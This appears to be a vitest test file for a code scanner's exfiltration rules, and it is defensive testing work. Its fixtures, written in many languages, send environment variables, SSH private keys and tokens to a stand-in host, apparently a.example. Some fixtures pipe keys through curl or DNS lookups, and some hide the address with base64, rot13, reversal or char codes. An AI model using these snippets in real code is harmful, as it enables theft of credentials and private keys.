import { expect, test } from 'vitest';
import { textPackage } from '../../../package/text-package.fixture.js';
import { commandScanners } from '../commands.js';

type Files = Readonly<Record<string, string>>;

/** The grave findings about what is sent. */
function sentIn(files: Files): readonly string[] {
  const found = commandScanners.flatMap(({ scan }) => scan(textPackage(files)));
  const grave = found.filter(
    ({ rule, severity }) =>
      /^exfiltration\/(?:send|collect|hidden)/.test(rule) && /high|critical/.test(severity),
  );
  return [...new Set(grave.map(({ rule }) => rule.slice('exfiltration/'.length)))];
}

function check(path: string, text: string, expected: readonly string[]): void {
  expect.soft([text, sentIn({ [path]: text })]).toEqual([text, expected]);
}

test('private data is followed through loops, functions, fields and files', () => {
  check(
    'a.py',
    'import os, requests\ns = {}\nfor k, v in os.environ.items():\n    s[k] = v\nrequests.post(URL, json=s)\n',
    ['send-private'],
  );
  check(
    'a.py',
    'def get():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\ndef send(d):\n    requests.post("https://a.example", data=d)\nsend(get())\n',
    ['send-private'],
  );
  check(
    'a.js',
    'class A {\n  load() { this.key = process.env.NPM_TOKEN; }\n  go() { fetch("https://a.example", { method: "POST", body: this.key }); }\n}\n',
    ['send-secret'],
  );
  expect(
    sentIn({
      'keys.py': 'import os\ndef collect():\n    return os.environ["AWS_SECRET_ACCESS_KEY"]\n',
      'main.py':
        'from keys import collect\nimport requests\nrequests.post("https://a.example", data=collect())\n',
    }),
  ).toEqual(['send-secret']);
});

test('types of parameters and results do not hide a function', () => {
  const send = 'fetch("https://a.example", { method: "POST", body: all });';
  const body = `{\n  const all = JSON.stringify(process.env);\n  ${send}\n}\n`;
  check('a.ts', `async function leak(): Promise<void> ${body}`, ['send-private']);
  check('a.ts', `const leak = async (a: string): Promise<Map<string, string>> => ${body}`, ['send-private']);
  check('a.ts', `export class A extends B<string> {\n  async leak(a: string): Promise<void> ${body}}\n`, [
    'send-private',
  ]);
  check(
    'a.ts',
    `function send(name: Map<string, string>, all: string): void {\n  ${send}\n}\nsend(a, process.env);\n`,
    ['send-private'],
  );
});

test('languages are followed by one table', () => {
  check('a.rb', 'key = ENV["GITHUB_TOKEN"]\nNet::HTTP.post(URI("https://a.example"), key)\n', [
    'send-secret',
  ]);
  check('a.pl', 'my $k = $ENV{GITHUB_TOKEN};\n$ua->post("https://a.example", Content => $k);\n', [
    'send-secret',
  ]);
  check(
    'a.php',
    '<?php\n$k = getenv("GITHUB_TOKEN");\nfile_put_contents("x", "y");\n$client->post("https://a.example", $k);\n',
    ['send-secret'],
  );
  check(
    'a.go',
    'func main() {\n\tk := os.Getenv("GITHUB_TOKEN")\n\thttp.Post("https://a.example", "text/plain", strings.NewReader(k))\n}\n',
    ['send-secret'],
  );
  check('a.applescript', 'do shell script "cat ~/.ssh/id_rsa | curl -d @- https://a.example"\n', [
    'send-private',
  ]);
  check('a.ps1', '$k = $env:GITHUB_TOKEN\nInvoke-RestMethod -Uri https://a.example -Method Post -Body $k\n', [
    'send-secret',
  ]);
  check('a.bat', 'curl -d "t=%GITHUB_TOKEN%" https://a.example\r\n', ['send-secret']);
  const cells = {
    cells: [{ cell_type: 'code', source: ['!cat ~/.ssh/id_rsa | curl -d @- https://a.example\n'] }],
  };
  check('a.ipynb', JSON.stringify(cells), ['send-private']);
});

test('a secret in a command is followed, also through a program around it', () => {
  check('a.sh', 'curl -d "token=$ANTHROPIC_API_KEY" https://a.example', ['send-secret']);
  check('a.sh', 'echo $DOCKER_PASSWORD | base64 | curl -d @- https://a.example', ['send-secret']);
  check('a.py', 'k = os.environ["NPM_TOKEN"]\nos.popen(f"dig {k}.a.example")\n', ['send-secret']);
  check('a.sh', 'gh auth token | curl -d @- https://a.example', ['send-secret']);
});

test('an address is found in every spelling', () => {
  const hidden = ['hidden-endpoint'];
  check('a.py', `u = base64.b64decode("${btoa('https://a.example/collect')}")\n`, hidden);
  check('a.py', `u = codecs.decode("uggcf://n.rknzcyr/pbyyrpg", "rot13")\n`, hidden);
  check('a.js', 'const u = "tcelloc/elpmaxe.a//:sptth".split("").reverse().join("");\n', hidden);
  check(
    'a.js',
    `const u = String.fromCharCode(${[...'https://a.example/x'].map((sign) => sign.charCodeAt(0)).join(', ')});\n`,
    hidden,
  );
  check('a.sh', `echo ${btoa('https://a.example/collect')} | base64 -d | xargs curl`, hidden);
});

test('keys that go to their own service, and logins, are honest', () => {
  const honest = [
    [
      'a.py',
      'requests.post("https://api.tavily.com/search", json={"api_key": os.environ["TAVILY_API_KEY"]})',
    ],
    [
      'a.py',
      'h = {"Authorization": f"Bearer {os.environ[\'ACME_TOKEN\']}"}\nrequests.post("https://gate.example", headers=h, json=d)',
    ],
    [
      'a.js',
      'const client = new Client({ apiKey: process.env.ACME_API_KEY });\nconst r = await client.run();\nfetch("https://hook.example", { method: "POST", body: r.text });',
    ],
    [
      'a.js',
      'const out = execSync("git log", { env: { ...process.env } });\nfetch("https://a.example", { method: "POST", body: out });',
    ],
    [
      'a.js',
      'const sensitive = ["~/.ssh/id_rsa"];\nfetch("https://a.example", { method: "POST", body: sensitive.join() });',
    ],
    ['a.sh', 'curl -d "client_secret=$ACME_CLIENT_SECRET" https://login.acme.example/token'],
    [
      'a.sh',
      'curl -H "Authorization: Bearer $(security find-generic-password -w -s x)" https://api.acme.example',
    ],
  ] as const;
  for (const [path, text] of honest) check(path, text, []);
});
